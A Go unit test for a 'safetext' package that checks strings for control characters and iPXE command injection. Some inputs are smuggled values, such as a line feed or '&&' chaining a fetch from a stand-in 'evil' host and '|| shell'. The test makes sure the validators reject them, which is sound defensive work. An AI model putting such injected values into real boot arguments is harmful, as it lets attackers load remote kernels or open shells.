package safetext

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestChecks(t *testing.T) {
	tests := []struct {
		value                     string
		control, text, args, word string // "" = accepted, else part of the error
	}{
		{value: "console=ttyS0,115200 ip=dhcp", word: "a blank at byte 21"},
		{value: "http://s3/boot/k%20x"},
		{value: "x\ty", control: "U+0009 (tab) at byte 2", args: "U+0009 (tab)", word: "U+0009"},
		{value: "a\nkernel http://evil/k", control: "U+000A (line feed)", args: "U+000A", word: "U+000A"},
		{value: "a\r", control: "U+000D (carriage return)", args: "U+000D", word: "U+000D"},
		{value: "\x00", control: "U+0000 (NUL) at byte 1", text: "U+0000", args: "U+0000", word: "U+0000"},
		{value: "\x1b[2J", control: "U+001B (escape)", text: "U+001B", args: "U+001B", word: "U+001B"},
		{value: "\x7f", control: "U+007F (delete)", text: "U+007F", args: "U+007F", word: "U+007F"},
		{value: "\x1f", control: "U+001F at byte 1", text: "U+001F", args: "U+001F", word: "U+001F"},
		{value: "quiet && chain http://evil/x", args: `"&&" would end the iPXE command`, word: `"&&"`},
		{value: "quiet || shell", args: `"||" would end the iPXE command`, word: `"||"`},
		{value: "a ; b", args: `";" would end the iPXE command`, word: `";"`},
		{value: "a #b", args: `"#b" would comment out`, word: `"#b"`},
		{value: "a;b a&&b a||b a#b", word: "a blank"},
		{value: "", word: "empty"},
	}
	for _, tc := range tests {
		t.Run(tc.value, func(t *testing.T) {
			for _, check := range []struct {
				name string
				fn   func(string) error
				want string
			}{
				{"CheckControl", CheckControl, tc.control},
				{"CheckControlInText", CheckControlInText, tc.text},
				{"CheckIPXEArguments", CheckIPXEArguments, tc.args},
				{"CheckIPXEWord", CheckIPXEWord, tc.word},
			} {
				err := check.fn(tc.value)
				if check.want == "" {
					assert.NoError(t, err, check.name)
					continue
				}
				require.ErrorIs(t, err, ErrUnsafe, check.name)
				assert.Contains(t, err.Error(), check.want, check.name)
			}
		})
	}
}
